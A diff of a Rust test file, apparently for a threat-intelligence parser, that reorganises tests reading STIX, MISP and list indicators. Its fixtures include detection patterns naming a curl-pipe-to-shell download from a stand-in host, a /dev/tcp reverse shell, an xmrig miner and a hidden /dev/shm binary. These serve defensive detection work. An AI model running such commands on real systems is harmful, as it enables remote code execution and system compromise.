@@ -86,14 +86,6 @@ const SHA256: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789
 
 #[test]
 fn stix_as_publishers_write_it() {
-    let with = |number: usize, key: &str, value: Value| {
-        let mut object = indicator(number, "[domain-name:value = 'a.example.net']");
-        object[key] = value;
-        object
-    };
-    let bundle = |objects: Vec<Value>| {
-        serde_json::json!({ "type": "bundle", "id": "bundle--x", "objects": objects }).to_string()
-    };
     hold(&[
         sample(
             "one property each",
@@ -145,6 +137,12 @@ fn stix_as_publishers_write_it() {
             ],
             &[],
         ),
+    ]);
+}
+
+#[test]
+fn objects_of_misp_in_stix_are_not_taken_for_a_part_of_them() {
+    hold(&[
         sample(
             "a connection object of a MISP export: an address AND a protocol is not the address",
             stix(&[
@@ -168,25 +166,43 @@ fn stix_as_publishers_write_it() {
             &["domain b.example.net", "domain c.example.net"],
             &["unsupported_pattern", "unsupported_pattern"],
         ),
-        sample(
-            "what runs",
-            stix(&[
-                "[process:command_line = 'curl -s http://a.example.net/x | sh']",
-                "[process:command_line LIKE '%/dev/tcp/%']",
-                "[process:command_line LIKE '%']",
-                "[process:name = 'xmrig' OR process:command_line MATCHES '(?i)stratum\\\\+tcp://']",
-                "[process:image_ref.parent_directory_ref.path = '/dev/shm' AND process:image_ref.name = '.x']",
-                "[process:parent_ref.name = 'nginx']",
-            ]),
-            &[
-                "process process:command_line = 'curl -s http://a.example.net/x | sh'",
-                "process process:command_line LIKE '%/dev/tcp/%'",
-                "file_name xmrig",
-                "process process:command_line MATCHES '(?i)stratum\\\\+tcp://'",
-                "path /dev/shm/.x",
-            ],
-            &["too_broad", "unsupported_type"],
-        ),
+    ]);
+}
+
+#[test]
+fn stix_about_what_runs() {
+    hold(&[sample(
+        "what runs",
+        stix(&[
+            "[process:command_line = 'curl -s http://a.example.net/x | sh']",
+            "[process:command_line LIKE '%/dev/tcp/%']",
+            "[process:command_line LIKE '%']",
+            "[process:name = 'xmrig' OR process:command_line MATCHES '(?i)stratum\\\\+tcp://']",
+            "[process:image_ref.parent_directory_ref.path = '/dev/shm' AND process:image_ref.name = '.x']",
+            "[process:parent_ref.name = 'nginx']",
+        ]),
+        &[
+            "process process:command_line = 'curl -s http://a.example.net/x | sh'",
+            "process process:command_line LIKE '%/dev/tcp/%'",
+            "file_name xmrig",
+            "process process:command_line MATCHES '(?i)stratum\\\\+tcp://'",
+            "path /dev/shm/.x",
+        ],
+        &["too_broad", "unsupported_type"],
+    )]);
+}
+
+#[test]
+fn what_is_no_pattern_or_not_in_force_in_stix_is_counted() {
+    let with = |number: usize, key: &str, value: Value| {
+        let mut object = indicator(number, "[domain-name:value = 'a.example.net']");
+        object[key] = value;
+        object
+    };
+    let bundle = |objects: Vec<Value>| {
+        serde_json::json!({ "type": "bundle", "id": "bundle--x", "objects": objects }).to_string()
+    };
+    hold(&[
         sample(
             "other kinds of pattern, and what is no pattern",
             bundle(vec![
@@ -230,18 +246,25 @@ fn stix_as_publishers_write_it() {
     ]);
 }
 
+/// An event with these attributes.
+fn event(attributes: Value) -> String {
+    serde_json::json!({ "Event": { "uuid": "5b0c8d1e-0000-4000-8000-000000000000", "info": "x", "date": "2026-01-05",
+        "Attribute": attributes } })
+    .to_string()
+}
+
+fn attribute(number: u32, kind: &str, value: &str, to_ids: Value) -> Value {
+    serde_json::json!({ "uuid": format!("5b0c8d1e-0000-4000-8000-{number:012x}"), "type": kind, "value": value,
+        "to_ids": to_ids, "timestamp": "1767607200" })
+}
+
+/// An attribute that its publisher calls an indicator.
+fn on(number: u32, kind: &str, value: &str) -> Value {
+    attribute(number, kind, value, true.into())
+}
+
 #[test]
 fn misp_as_instances_write_it() {
-    let event = |attributes: Value| {
-        serde_json::json!({ "Event": { "uuid": "5b0c8d1e-0000-4000-8000-000000000000", "info": "x", "date": "2026-01-05",
-            "Attribute": attributes } })
-        .to_string()
-    };
-    let attribute = |number: u32, kind: &str, value: &str, to_ids: Value| {
-        serde_json::json!({ "uuid": format!("5b0c8d1e-0000-4000-8000-{number:012x}"), "type": kind, "value": value,
-            "to_ids": to_ids, "timestamp": "1767607200" })
-    };
-    let on = |number: u32, kind: &str, value: &str| attribute(number, kind, value, true.into());
     let composite = format!("dropper.bin|{SHA256}");
     let capitals = SHA256.to_uppercase();
     hold(&[
@@ -300,6 +323,12 @@ fn misp_as_instances_write_it() {
                 "unsupported_type",
             ],
         ),
+    ]);
+}
+
+#[test]
+fn what_misp_deletes_answers_and_groups() {
+    hold(&[
         sample(
             "deleted attributes, and one that comes twice",
             event(serde_json::json!([
@@ -370,7 +399,6 @@ fn csv_as_exports_have_it() {
 
 #[test]
 fn lists_as_they_are_found() {
-    let as_list = |sample: Sample| Sample { format: "list", ..sample };
     hold(&[
         sample(
             "plain, with comments of four kinds",
@@ -408,6 +436,13 @@ fn lists_as_they_are_found() {
             &["ipv4_prefix 198.51.100.4/30", "ipv4 198.51.100.9"],
             &["malformed"],
         ),
+    ]);
+}
+
+#[test]
+fn lists_of_names_and_digests_as_they_are_found() {
+    let as_list = |sample: Sample| Sample { format: "list", ..sample };
+    hold(&[
         sample(
             "defanged, capitals, ports, credentials",
             "hxxps://user:pw@A.Example[.]NET:8443/x?y=1#z\n198[.]51[.]100[.]1:443\n[2001:db8::1]:443\nA[.]EXAMPLE[.]NET\nbücher.example\n",
